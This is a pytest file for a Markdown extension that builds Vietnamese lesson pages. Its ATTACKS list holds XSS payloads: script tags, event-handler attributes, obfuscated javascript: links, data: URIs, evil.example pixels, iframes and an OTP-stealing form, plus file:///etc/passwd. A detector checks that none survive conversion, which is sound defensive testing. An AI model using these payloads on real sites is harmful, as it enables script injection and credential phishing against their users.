"""The Markdown extension: keys, video lines, boxes; nothing unsafe comes through."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import markdown
import pytest
from hypothesis import given
from hypothesis import strategies as st
from mkdocs.exceptions import PluginError

from tungbuoc.lesson.canonical import to_markdown
from tungbuoc.lesson.scan import scan
from tungbuoc.lesson.slugs import slugify
from tungbuoc.site.extension import TungBuocExtension
from tungbuoc.web.tree import Tree, plain

FRONT = "---\ncode: B2\naudience: mọi người\nminutes: 20\nreviewed: 2026-11-21\nreview_by: 2027-02-21\n---\n"


def convert(text: str) -> tuple[str, Tree]:
    found: list[Tree] = []
    html = markdown.markdown(
        text,
        extensions=[TungBuocExtension(sink=found.append), "toc"],
        extension_configs={"toc": {"slugify": slugify}},
    )
    return html, found[0]


def test_a_key_is_the_anchor_and_leaves_the_title() -> None:
    html, tree = convert("# Tên\n\n## Bước 1: Mở kho {#48217}\n\nBấm nút.\n")
    assert '<h2 id="48217">Bước 1: Mở kho</h2>' in html
    assert [(part.title, part.ident) for part in tree.parts] == [("Bước 1: Mở kho", "48217")]


@pytest.mark.parametrize(
    "slip", ["y{#11112}", "{# 11113 }", "{#48217 onclick=alert(1)}", "{#“48217”}", "\u00a0{#48217}", "{.x}"]
)
def test_a_near_miss_is_text_and_never_an_attribute(slip: str) -> None:
    html, _ = convert(f"# Tên\n\n## Bước 1: Mở kho {slip}\n\nBấm nút.\n")
    attributes = re.search(r"<h2([^>]*)>", html)
    assert attributes is not None
    assert "onclick=" not in attributes[1]
    assert 'id="48217"' not in attributes[1]


def test_the_video_line_goes_before_blocks_are_parsed() -> None:
    html, _ = convert(
        "# Tên\n\n## Bước 1: Mở kho {#48217}\n\n\nVIDEO： <https://youtu.be/abcdefghijk>\n---\nBấm nút.\n"
    )
    assert "youtu.be" not in html
    assert html.count("<h2") == 1


def test_headings_keep_the_letter_d() -> None:
    html, _ = convert("## Đăng nhập bằng điện thoại\n")
    assert 'id="dang-nhap-bang-dien-thoai"' in html


def test_lists_questions_and_boxes_are_read_from_the_tree() -> None:
    _, tree = convert(
        "## Tự kiểm\n\n### Họ **giục**, bác làm gì?\n\n- [ ] Nghe theo. — Họ đang lừa.\n- [x] Cúp máy. — Người thật chờ được.\n"
    )
    question, answers = tree.parts[0].questions[0]
    assert question == "Họ <strong>giục</strong>, bác làm gì?"
    assert answers == (("Nghe theo. — Họ đang lừa.", False), ("Cúp máy. — Người thật chờ được.", True))


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example/)",
    "[x](http://evil.example/)",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://evil.example/pixel.png)",
    "![x](http://evil.example/pixel.png)",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://a.example/?q=%22onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "```phone\ntitle: <script>alert(1)</script>\nbody:\n  - text: '<img src=x onerror=alert(1)>'\n```",
    "```phone onclick=alert(1)\ntitle: x\n```",
    "```{.phone onclick=alert(1)}\ntitle: x\n```",
    "## Bước 1: <b onclick=alert(1)>x</b> {#48217}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "*[x]: <script>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<form action=https://evil.example><input name=otp></form>",
]


class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "style", "iframe", "form", "input", "object", "embed", "link", "meta", "base"):
            self.bad.append(tag)
        for name, value in attrs:
            target = (value or "").strip().lower()
            if name.startswith("on") or name == "style":
                self.bad.append(name)
            if (
                name == "href"
                and ":" in target.split("/")[0].split("?")[0].split("#")[0]
                and not target.startswith(("https:", "tel:", "sms:"))
            ):
                self.bad.append(target)
            if name == "src" and (":" in target or target.startswith("//")):
                self.bad.append(target)
            if name == "href" and target.startswith("//"):
                self.bad.append(target)


def dangers(html: str) -> list[str]:
    seen = _Seen()
    seen.feed(html)
    return seen.bad


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_unsafe_comes_through(attack: str) -> None:
    html, tree = convert(f"# Tên\n\n## Bước 1: Mở {{#48217}}\n\n{attack}\n\n- {attack}\n")
    assert dangers(html) == []
    for part in tree.parts:
        assert dangers(part.html) == []
        assert all(dangers(item) == [] for item in part.items)


def test_the_corpus_would_be_seen() -> None:
    assert dangers("<script>alert(1)</script>") == ["script"]
    assert dangers('<a href="javascript:alert(1)" onclick="x">') == ["javascript:alert(1)", "onclick"]


WORDS = st.text(alphabet="abcđêộ ,.:“”*_`-#[](){}<>&123\n", max_size=60)


@given(WORDS, WORDS)
def test_no_text_is_dangerous(first: str, second: str) -> None:
    html, _ = convert(f"# Tên\n\n## Bước 1: {first}\n\n{second}\n")
    assert dangers(html) == []


TITLES = st.from_regex(r"[A-ZĐ][a-zđêộá]{1,6}( [a-zđêộá]{1,6}){0,3}", fullmatch=True)
BODIES = st.lists(
    st.sampled_from(
        [
            "Bấm **“Gửi”**.",
            "Máy sẽ hiện nút.",
            "- một\n- hai",
            "> chú ý",
            "```phone\ntitle: VNeID\n```",
            "`TTTB`",
            "Video: nói sau",
        ]
    ),
    min_size=1,
    max_size=4,
)


@given(st.lists(st.tuples(TITLES, BODIES, st.booleans()), min_size=1, max_size=6))
def test_the_scanner_and_the_extension_see_the_same_steps(steps: list[tuple[str, list[str], bool]]) -> None:
    keys = ["48217", "16300", "92752", "35849", "67011", "20496"]
    body = "# Tên bài\n\n"
    for number, (title, parts, video) in enumerate(steps, 1):
        line = "Video: https://youtu.be/abcdefghijk\n\n" if video else ""
        body += (
            f"## Bước {number}: {title} {{#{keys[number - 1]}}}\n\n{line}"
            + "\n\n".join(["Bấm nút.", *parts])
            + "\n\n"
        )
    found = scan(FRONT + body, "docs/a.md", hosts=["youtu.be"])
    _, tree = convert(to_markdown(found.lesson))
    seen = [(part.ident, part.title) for part in tree.parts]
    assert seen == [(step.key, f"Bước {step.number}: {step.title}") for step in found.lesson.steps]
    for part, step in zip(tree.parts, found.lesson.steps, strict=True):
        assert "youtu.be" not in part.html
        assert re.sub(r"[\s>]+", "", plain(part.html)) == re.sub(
            r"[\s>]+", "", "".join(text.plain for text in step.body.texts())
        )


def test_without_the_plugin_nothing_is_converted() -> None:
    """As under a generator that knows Markdown extensions and no plugins: by name, without a sink."""
    alone = markdown.Markdown(extensions=["tungbuoc"])
    with pytest.raises(PluginError, match="chỉ chạy cùng plugin «tungbuoc/lessons»"):
        alone.convert("# Tên\n")
